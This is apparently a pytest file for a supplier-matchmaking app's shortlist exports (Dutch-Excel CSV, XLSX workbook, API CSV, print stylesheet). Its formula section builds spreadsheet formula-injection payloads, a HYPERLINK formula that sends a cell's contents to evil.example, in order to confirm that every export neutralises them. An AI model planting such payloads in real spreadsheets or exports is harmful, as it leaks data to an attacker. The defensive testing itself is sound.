"""Shortlist exports that open right: a CSV for Dutch Excel and an XLSX workbook from the shortlist
page (and the API), with the buyer's verdicts and the suppliers' contact details; the API's CSV
for programs keeps its columns; no cell ever starts a formula; the page prints cleanly."""
from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timezone
from decimal import Decimal

import openpyxl
import pytest

from matchmaker.extensions import db
from matchmaker.interop.spreadsheet import FORMULA_TRIGGERS, XLSX_MEDIA_TYPE, Sheet, excel_csv, xlsx
from matchmaker.models import Feedback, Supplier
from tests.builders import CHAIRS, Browser, shortlist, tender_payload

DUTCH_HEADER = ["Positie", "Leverancier", "Gemeente", "Score", "Nieuwkomer", "Oordeel", "Notitie",
                "Beoordeeld op", "Contact-e-mail", "Website", "KvK-nummer", "Leveranciersnummer"]
ENGLISH_HEADER = ["Rank", "Supplier", "Municipality", "Score", "Newcomer", "Verdict", "Note",
                  "Verdict given on", "Contact e-mail", "Website", "KvK number", "Supplier number"]
# The API CSV's columns before verdicts and contact details were added: clients read these.
CONTRACT_COLUMNS = ["rank", "supplier_id", "supplier_name", "municipality", "score", "newcomer",
                    "components", "criteria", "matched_terms"]
SUMMER_VERDICT = datetime(2026, 7, 1, 10, 0, tzinfo=timezone.utc)  # 12:00 in Amsterdam (CEST)


class Shortlisted:
    """Two chair refurbishers on a buyer's shortlist, the first with an 'invited' verdict."""

    def __init__(self, app, client, register, make_token):
        self.first = register(**{**CHAIRS, "contact_email": "inkoop@stoelenkliniek.example",
                                 "website": "https://stoelenkliniek.example"})
        self.second = register(**{**CHAIRS, "kvk_number": "81000011", "name": "Zitwerk Zaandam",
                                  "contact_email": "zit@zitwerk.example",
                                  "website": "https://zitwerk.example"})
        self._shortlist_chairs(client, make_token)
        response = client.post(f"/api/shortlists/{self.id}/feedback", headers=self.buyer, json={
            "supplier_id": self.first.id, "verdict": "invited", "note": "Sterk; bellen in mei"})
        assert response.status_code == 201
        with app.app_context():  # a verdict given at a known moment, to read the clock by
            db.session.get(Feedback, response.get_json()["id"]).created_at = SUMMER_VERDICT
            db.session.commit()
        self._sign_in(client)

    def _shortlist_chairs(self, client, make_token):
        """A buyer's shortlist for a tender for office chairs and desks."""
        self.buyer = make_token("buyer", buyer="Waterbedrijf Amstelland")
        # written in the profiles' words, so both are a good match (not weak candidates)
        tender = client.post("/api/tenders", json=tender_payload(
            title="Refurbished office chairs and desks for the head office",
            description="We need 400 refurbished office chairs and 150 desks, with take-back."),
            headers=self.buyer).get_json()
        self.result = shortlist(client, self.buyer, tender["id"])
        self.id = self.result["id"]

    def _sign_in(self, client):
        self.browser = Browser(client)
        self.browser.sign_in(self.buyer)
        self.client = client

    def page_export(self, kind: str):
        # The signed-in browser's client: a download is no page to take a CSRF token from.
        response = self.browser.client.get(f"/buyer/shortlists/{self.id}/export.{kind}")
        assert response.status_code == 200, response.get_data(as_text=True)[:300]
        return response


@pytest.fixture
def shortlisted(app, client, register, make_token):
    return Shortlisted(app, client, register, make_token)


def _excel_rows(response) -> list[list[str]]:
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf"), "Excel reads UTF-8 only after a byte-order mark"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def _workbook_rows(response, sheet: str = "Shortlist") -> list[list]:
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    return [list(row) for row in book[sheet].iter_rows(values_only=True)]


def _by_name(rows: list[list], header: list[str]) -> dict[str, dict]:
    return {row[1]: dict(zip(header, row)) for row in rows[1:]}


def test_the_page_csv_opens_in_dutch_excel_as_columns_with_verdicts_and_contact(shortlisted):
    response = shortlisted.page_export("csv")
    rows = _excel_rows(response)

    assert response.mimetype == "text/csv"
    assert rows[0] == DUTCH_HEADER
    assert [row[1] for row in rows[1:]] == [i["supplier"]["name"] for i in shortlisted.result["items"]]
    first = _by_name(rows, DUTCH_HEADER)["Stoelenkliniek"]
    assert first["Oordeel"] == "uitgenodigd"
    assert first["Notitie"] == "Sterk; bellen in mei"  # the separator inside a cell is quoted
    assert first["Beoordeeld op"] == "01-07-2026 12:00"  # Amsterdam's summer time, day first
    assert first["Contact-e-mail"] == "inkoop@stoelenkliniek.example"
    assert first["Website"] == "https://stoelenkliniek.example"
    assert first["KvK-nummer"] == "81000001"
    assert first["Nieuwkomer"] in ("ja", "nee")
    second = _by_name(rows, DUTCH_HEADER)["Zitwerk Zaandam"]
    assert second["Oordeel"] == second["Beoordeeld op"] == ""
    assert second["Contact-e-mail"] == "zit@zitwerk.example"
    for row in rows[1:]:
        assert re.fullmatch(r"0,\d{4}", row[3]), row[3]  # a decimal comma: a number in Excel
    scores = {i["supplier"]["name"]: i["score"] for i in shortlisted.result["items"]}
    assert Decimal(first["Score"].replace(",", ".")) == Decimal(f"{scores['Stoelenkliniek']:.4f}")


def test_an_english_reader_gets_english_headers_in_the_same_dutch_excel_shape(shortlisted):
    shortlisted.browser.get(f"/buyer/shortlists/{shortlisted.id}")
    assert shortlisted.browser.post("/language", {"lang": "en"}).status_code == 302
    rows = _excel_rows(shortlisted.page_export("csv"))

    assert rows[0] == ENGLISH_HEADER
    first = _by_name(rows, ENGLISH_HEADER)["Stoelenkliniek"]
    assert first["Verdict"] == "invited" and re.fullmatch(r"0,\d{4}", first["Score"])


def _as_excel_text(value) -> str:
    """A workbook cell as the CSV for Dutch Excel writes it."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.strftime("%d-%m-%Y %H:%M")
    if isinstance(value, float):
        return f"{value:.4f}".replace(".", ",")
    return str(value)


def test_the_workbook_opens_with_openpyxl_and_holds_the_same_table_as_the_csv(shortlisted):
    response = shortlisted.page_export("xlsx")
    rows = _workbook_rows(response)

    assert response.mimetype == XLSX_MEDIA_TYPE
    assert 'filename="shortlist-' in response.headers["Content-Disposition"]
    assert [[_as_excel_text(cell) for cell in row] for row in rows] == \
        _excel_rows(shortlisted.page_export("csv"))
    first = _by_name(rows, DUTCH_HEADER)["Stoelenkliniek"]
    assert first["Beoordeeld op"] == datetime(2026, 7, 1, 12, 0)  # a date cell, Amsterdam time
    assert isinstance(first["Score"], float) and isinstance(first["Positie"], int)
    about = dict(row for row in _workbook_rows(response, "Over deze lijst")[1:])
    assert about["Aanbesteding"] == "Refurbished office chairs and desks for the head office"
    assert about["Tijdzone"] == "Europe/Amsterdam"


def test_the_api_offers_the_workbook_to_the_shortlists_buyer(shortlisted, client, make_token):
    response = client.get(f"/api/shortlists/{shortlisted.id}/export.xlsx", headers=shortlisted.buyer)
    other = client.get(f"/api/shortlists/{shortlisted.id}/export.xlsx",
                       headers=make_token("buyer", buyer="Havenbedrijf"))

    assert response.status_code == 200 and response.mimetype == XLSX_MEDIA_TYPE
    first = _by_name(_workbook_rows(response), DUTCH_HEADER)["Stoelenkliniek"]
    assert first["Contact-e-mail"] == "inkoop@stoelenkliniek.example"
    assert first["Oordeel"] == "uitgenodigd"
    assert other.status_code == 404


def test_the_api_csv_keeps_its_columns_and_adds_verdicts_and_contact_after_them(shortlisted,
                                                                                client):
    response = client.get(f"/api/shortlists/{shortlisted.id}/export.csv", headers=shortlisted.buyer)
    text = response.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))

    assert not text.startswith("\ufeff")  # for programs: no byte-order mark, commas
    assert list(rows[0])[:len(CONTRACT_COLUMNS)] == CONTRACT_COLUMNS
    assert list(rows[0])[len(CONTRACT_COLUMNS):] == [
        "verdict", "verdict_note", "verdict_at", "contact_email", "website", "kvk_number"]
    first = {row["supplier_name"]: row for row in rows}["Stoelenkliniek"]
    assert first["verdict"] == "invited" and first["verdict_note"] == "Sterk; bellen in mei"
    assert first["verdict_at"] == "2026-07-01T12:00:00+02:00"
    assert first["contact_email"] == "inkoop@stoelenkliniek.example"
    assert first["kvk_number"] == "81000001"
    assert re.fullmatch(r"0\.\d{4}", first["score"])


def test_a_winter_verdict_is_on_amsterdams_winter_clock(app, shortlisted):
    with app.app_context():
        for entry in db.session.scalars(db.select(Feedback)):
            entry.created_at = datetime(2026, 12, 1, 10, 0, tzinfo=timezone.utc)
        db.session.commit()

    first = _by_name(_excel_rows(shortlisted.page_export("csv")), DUTCH_HEADER)["Stoelenkliniek"]
    assert first["Beoordeeld op"] == "01-12-2026 11:00"


def test_a_deactivated_supplier_keeps_its_row_but_loses_its_contact_details(shortlisted, client,
                                                                            make_token):
    client.post(f"/api/staff/suppliers/{shortlisted.second.id}/deactivate",
                json={"reason": "misbruik"}, headers=make_token("staff"))

    second = _by_name(_excel_rows(shortlisted.page_export("csv")), DUTCH_HEADER)["Zitwerk Zaandam"]
    assert second["Contact-e-mail"] == second["Website"] == second["KvK-nummer"] == ""


# --------------------------------------------------------------------------- formulas


def hostile(trigger: str) -> str:
    return f'{trigger}HYPERLINK("https://evil.example/?"&A1,"Klik")'


class HostileShortlist(Shortlisted):
    """Every formula trigger at the start of a supplier's name, municipality, e-mail address and
    website (as an import or a database edit could store them) and of the buyer's note."""

    def __init__(self, app, client, register, make_token):
        ids = [register(**{**CHAIRS, "kvk_number": f"8400000{number}",
                           "name": f"Stoelen {number}"}).id
               for number in range(len(FORMULA_TRIGGERS))]
        with app.app_context():
            for supplier_id, trigger in zip(ids, FORMULA_TRIGGERS):
                supplier = db.session.get(Supplier, supplier_id)
                supplier.name = supplier.municipality = hostile(trigger)
                supplier.contact_email = supplier.website = hostile(trigger)
            db.session.commit()
        self._shortlist_chairs(client, make_token)
        # six identical profiles say little apart: listed, or as weak candidates, all are exported
        listed = self.result["items"] or self.result["weak_candidates"]
        assert len(listed) == len(FORMULA_TRIGGERS)
        for item in listed:
            response = client.post(f"/api/shortlists/{self.id}/feedback", headers=self.buyer,
                                   json={"supplier_id": item["supplier"]["id"], "verdict": "relevant"})
            assert response.status_code == 201
        with app.app_context():  # notes as pasted from elsewhere, control characters and all
            for entry, trigger in zip(db.session.scalars(db.select(Feedback).order_by(Feedback.id)),
                                      FORMULA_TRIGGERS):
                entry.note = hostile(trigger)
            db.session.commit()
        self._sign_in(client)


@pytest.fixture
def hostile_shortlist(app, client, register, make_token):
    return HostileShortlist(app, client, register, make_token)


def _all_cells(kind: str, shortlisted) -> list[list]:
    if kind == "page.csv":
        return _excel_rows(shortlisted.page_export("csv"))
    if kind == "page.xlsx":
        book = openpyxl.load_workbook(io.BytesIO(shortlisted.page_export("xlsx").get_data()))
        assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows()
                   for cell in row), "a cell of the workbook is a formula"
        return _workbook_rows(shortlisted.page_export("xlsx"))
    response = shortlisted.client.get(f"/api/shortlists/{shortlisted.id}/export.csv",
                                      headers=shortlisted.buyer)
    return list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))


@pytest.mark.parametrize("kind", ["page.csv", "page.xlsx", "api.csv"])
def test_no_cell_of_any_export_starts_a_formula_whatever_the_supplier_or_note_says(
        hostile_shortlist, kind):
    rows = _all_cells(kind, hostile_shortlist)

    text_cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    for trigger in FORMULA_TRIGGERS:
        # name, municipality, e-mail, website and note: each written as text behind a quote (in
        # a workbook a carriage return reads back as a line feed, as XML has it)
        written = "'" + hostile(trigger)
        if kind.endswith("xlsx"):
            written = written.replace("\r", "\n")
        assert text_cells.count(written) == 5, repr(trigger)
    assert [cell for cell in text_cells if cell.startswith(FORMULA_TRIGGERS)] == []


def test_the_writers_quote_text_but_leave_their_own_numbers_and_dates_alone():
    rows = list(csv.reader(io.StringIO(excel_csv(
        ["Naam", "Saldo", "Op"],
        [["-1 punt", Decimal("-0.5"), datetime(2026, 3, 4, 5, 6)]]).decode("utf-8-sig")),
        delimiter=";"))
    book = openpyxl.load_workbook(io.BytesIO(xlsx([Sheet("Blad", ["Naam", "Saldo"], [
        ["=1+1", -0.5], ["Stoel\x01en", Decimal("0.25")]])])))

    assert rows[1] == ["'-1 punt", "-0,5", "04-03-2026 05:06"]
    assert [[c for c in row] for row in book["Blad"].iter_rows(min_row=2, values_only=True)] == [
        ["'=1+1", -0.5], ["Stoelen", 0.25]]  # a control character XML can't hold is dropped


# --------------------------------------------------------------------------- the page


def test_the_shortlist_page_offers_both_downloads_and_prints_cleanly(shortlisted, client):
    html = shortlisted.browser.get(f"/buyer/shortlists/{shortlisted.id}").get_data(as_text=True)
    with client.get("/static/print.css") as stylesheet:
        css = stylesheet.get_data(as_text=True)

    assert f'href="/buyer/shortlists/{shortlisted.id}/export.csv"' in html
    assert f'href="/buyer/shortlists/{shortlisted.id}/export.xlsx"' in html
    assert '<link rel="stylesheet" href="/static/print.css">' in html
    assert stylesheet.status_code == 200
    rules = css[css.index("@media print"):]
    hidden = re.findall(r"([^{}]+)\{[^}]*display:\s*none", rules)
    hidden_selectors = " ".join(hidden)
    for selector in ("header.site", "footer.site", ".exports", "form.feedback select",
                     "form.feedback button"):
        assert selector in hidden_selectors, selector
    assert ".badge" not in hidden_selectors and "p.contact" not in hidden_selectors
    assert "ol.shortlist" not in hidden_selectors
